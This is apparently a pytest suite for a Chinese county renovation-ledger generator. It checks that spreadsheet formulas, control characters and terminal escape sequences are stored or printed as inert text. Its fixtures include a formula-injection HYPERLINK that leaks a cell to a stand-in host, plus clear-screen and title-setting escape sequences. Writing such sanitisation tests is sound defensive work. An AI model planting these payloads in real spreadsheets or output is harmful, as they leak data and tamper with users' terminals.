"""Issue 9, items 3-5: no formula, no control character, no escape sequence passes through; --annotate on
merged cells and two-row headers; PDF workers end quietly."""
from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator import safetext
from generator.cli import main
from support.workbooks import two_row_header

ROOT = Path(__file__).resolve().parents[2]
FIX = ROOT / "tests" / "fixtures" / "ledger"
FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "+1+1", "-2+3", "@SUM(1,2)", "\tx", "\r=1"]


def run(args):
    return CliRunner().invoke(main, [str(a) for a in args])


def sheet_xml(path: Path, title: str) -> str:
    """The worksheet XML of sheet ``title`` (by workbook order)."""
    from openpyxl import load_workbook
    names = load_workbook(path, read_only=True).sheetnames
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{names.index(title) + 1}.xml").decode("utf-8")


# -- safetext ------------------------------------------------------------------------------------------------
def test_clean_removes_what_xml_cannot_hold_and_counts_it():
    with safetext.collecting() as removed:
        got = safetext.clean("a\x0bb\x00c\x1fd\ufffee\uffff\ud800f\tg\nh\ri")
    assert got == "abcdef\tg\nh\ri" and removed.count == 6
    assert safetext.clean(3) == 3 and safetext.clean_counted("\x0b\x0c") == ("", 2)


@pytest.mark.parametrize("raw", ["\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;http://x\x1b\\", "\x9b2J", "\x1bc", "\x07",
                                 "\x08\x08", "\u202e", "\x7f"])
def test_terminal_strips_escape_and_control_sequences(raw):
    assert safetext.terminal(f"魏都区{raw}小区\n第2行") == "魏都区小区\n第2行"


# -- XLSX cells -----------------------------------------------------------------------------------------------
def test_workbook_bytes_store_text_and_neutralise_formulas(tmp_path):
    import datetime as dt

    from openpyxl import Workbook, load_workbook

    from generator.ledger.writer import workbook_bytes
    from generator.zipdoc import normalize_zip
    wb = Workbook()
    ws = wb.active
    for i, v in enumerate(FORMULAS, 1):
        ws.cell(i, 1).value = v
    ws.cell(1, 2).value = 42
    ws.cell(2, 2).value = "普通文本"
    (tmp_path / "t.xlsx").write_bytes(normalize_zip(workbook_bytes(wb, dt.datetime(2023, 2, 14))))
    xml = sheet_xml(tmp_path / "t.xlsx", ws.title)
    assert "<f>" not in xml and "<f " not in xml
    back = load_workbook(tmp_path / "t.xlsx").active
    for i, v in enumerate(FORMULAS, 1):
        c = back.cell(i, 1)
        assert (c.data_type, c.quotePrefix) == ("s", True)
        assert c.value.replace("\r", "\n") == v.replace("\r", "\n")    # the visible text stays the same
    assert back.cell(1, 2).value == 42 and back.cell(2, 2).quotePrefix is False


def test_county_workbook_template_cells_are_text():
    """The blank county workbook gaizao writes has no formula cell at all (validations are not cells)."""
    import tempfile

    from generator.render.samples import write_plan_workbook
    from generator.policy import load_policy
    with tempfile.TemporaryDirectory() as tmp:
        path = write_plan_workbook(load_policy("xuchang/2023"), "魏都区", Path(tmp) / "w.xlsx")
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s for s in sheets)


@pytest.fixture(scope="module")
def injected_plan(tmp_path_factory):
    """A JSON plan whose project ids are formulas (twice each: a duplicate-id finding names them) and whose
    names hold a vertical tab and an escape sequence."""
    data = json.loads((FIX / "plan.json").read_text(encoding="utf-8"))
    rows = data["项目清单"]
    for i, f in enumerate(FORMULAS[:3]):
        rows[2 * i]["项目编号"] = rows[2 * i + 1]["项目编号"] = f
    rows[0]["小区名称"] = "禹州市\x0b示例小区\x1b[2J"
    rows[1]["户数"] = "\x1b[2J\x1b]0;pwn\x07三十"
    path = tmp_path_factory.mktemp("inj") / "plan.json"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def test_annotated_issue_sheet_keeps_formulas_as_text(tmp_path):
    from openpyxl import load_workbook
    src = tmp_path / "plan.xlsx"
    wb = load_workbook(FIX / "clean.xlsx")
    from generator.ledger import contract as C
    ws = wb[C.SHEET_PROJECTS]
    head = next(r for r in range(1, 6) if C.PROJECT_ID in [c.value for c in ws[r]])
    col = [c.value for c in ws[head]].index(C.PROJECT_ID) + 1
    for i, f in enumerate(FORMULAS[:3]):
        for r in (head + 1 + 2 * i, head + 2 + 2 * i):
            ws.cell(r, col).value = f
            ws.cell(r, col).data_type = "s"        # typed as text by the county (Excel: a leading quote)
    wb.save(src)
    out = tmp_path / "marked.xlsx"
    res = run(["validate", src, "--annotate", out])
    assert res.exit_code == 1, res.output
    xml = sheet_xml(out, "问题清单")
    assert "<f>" not in xml and "HYPERLINK" in xml
    issues = load_workbook(out)["问题清单"]
    cells = [c for row in issues.iter_rows(min_row=2, min_col=6, max_col=6) for c in row if c.value in FORMULAS]
    assert {c.value for c in cells} == set(FORMULAS[:3])
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


# -- DOCX / terminal ---------------------------------------------------------------------------------------------
def test_control_characters_never_reach_a_docx(injected_plan, tmp_path):
    import docx
    out = tmp_path / "out"
    res = run(["render", "checklists", injected_plan, "-o", out])
    assert res.exit_code == 0, res.output
    files = sorted(out.rglob("*.docx"))
    assert files
    for f in files:
        docx.Document(str(f))                               # python-docx opens it (it refuses XML-illegal text)
        with zipfile.ZipFile(f) as z:
            body = z.read("word/document.xml").decode("utf-8")
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", body)
    assert "控制字符" in res.output                          # the command says it removed some


def test_escape_sequences_never_reach_the_terminal(injected_plan):
    for fmt in ("text", "json"):
        res = run(["validate", injected_plan, "--format", fmt])
        assert res.exit_code == 1, res.output
        assert "\x1b" not in res.output and "\x07" not in res.output and "\x0b" not in res.output
    res = run(["validate", injected_plan, "--format", "json"])
    # issue 18 item 2: made safe once on reading, for every output (JSON too); the cell is named (L004)
    l004 = [f for f in json.loads(res.stdout)["findings"] if f["code"] == "L004"]
    assert {(f["column"], f["value"]) for f in l004} >= {("小区名称", "禹州市\n示例小区[2J")}
    assert "\\u001b" not in res.output


# -- --annotate: merged cells, two-row header, identical bytes ------------------------------------------------------
@pytest.fixture(scope="module")
def merged_two_row(tmp_path_factory, policy2023):
    from generator.ledger import contract as C
    wb = two_row_header(policy2023.policy)
    ws = wb[C.SHEET_PROJECTS]
    hh = next(c.column for c in ws[2] if c.value == C.HOUSEHOLDS)
    ws.cell(4, hh, "三十户")                                # a bad value, merged down over three data rows
    ws.merge_cells(start_row=4, start_column=hh, end_row=6, end_column=hh)
    path = tmp_path_factory.mktemp("merged") / "two-row.xlsx"
    wb.save(path)
    return path, hh


@pytest.mark.slow
def test_annotate_merged_cells_and_two_row_header(merged_two_row, tmp_path):
    from openpyxl import load_workbook
    src, hh = merged_two_row
    outs = []
    for name in ("a.xlsx", "b.xlsx"):
        res = run(["validate", src, "--annotate", tmp_path / name])
        assert res.exit_code == 1 and "Traceback" not in res.output, res.output
        outs.append((tmp_path / name).read_bytes())
    assert outs[0] == outs[1]                               # byte-identical between runs
    ws = load_workbook(io.BytesIO(outs[0]))["项目清单"]
    anchor = ws.cell(4, hh)
    assert anchor.comment is not None and "V001" in anchor.comment.text
    assert anchor.fill.fgColor.rgb.endswith("FFC7CE")       # the merged range's top-left carries the mark


# -- PDF workers ----------------------------------------------------------------------------------------------------
def _dispositions():
    import signal
    return signal.getsignal(signal.SIGINT), signal.getsignal(signal.SIGPIPE), signal.getsignal(signal.SIGTERM)


@pytest.mark.slow
def test_pdf_workers_end_quietly():
    """The pool initializer makes workers ignore Ctrl-C (the parent handles it), die on a closed pipe and
    on SIGTERM without a traceback (BrokenPipe from workers after the parent was terminated)."""
    import signal

    from generator import workers
    from generator.render import forms_pdf
    with workers.context().Pool(1, initializer=forms_pdf._warm, initargs=("",)) as pool:
        got = pool.apply(_dispositions)
    assert got == (signal.SIG_IGN, signal.SIG_DFL, signal.SIG_DFL)
    # the register's workers (Register.add_all) take the same rule
    with workers.context().Pool(1, initializer=workers.quiet_worker) as pool:
        assert pool.apply(_dispositions) == (signal.SIG_IGN, signal.SIG_DFL, signal.SIG_DFL)


@pytest.mark.slow
def test_policy_strings_with_escapes_are_printed_without_them(policy_copy):
    """YAML double-quoted strings can spell ESC ("\\e"): policy show and diff print the value, not the sequence."""
    pf = policy_copy / "policy.yaml"
    src = pf.read_text(encoding="utf-8")
    i = src.index("value:", src.index("addressees:"))
    j = src.index("\n", i)
    pf.write_text(src[:i] + 'value: ["各县\\e[2J\\e]0;pwn\\a（市、区）政府", 市直相关单位]' + src[j:], encoding="utf-8")
    # README exit codes: show 0; diff 1, the versions differ (the addressee was changed)
    for args, code in ((["policy", "show", policy_copy], 0), (["diff", "xuchang/2023", policy_copy], 1)):
        res = run(args)
        assert res.exit_code == code, res.output
        assert "\x1b" not in res.output and "\x07" not in res.output and "各县（市、区）政府" in res.output
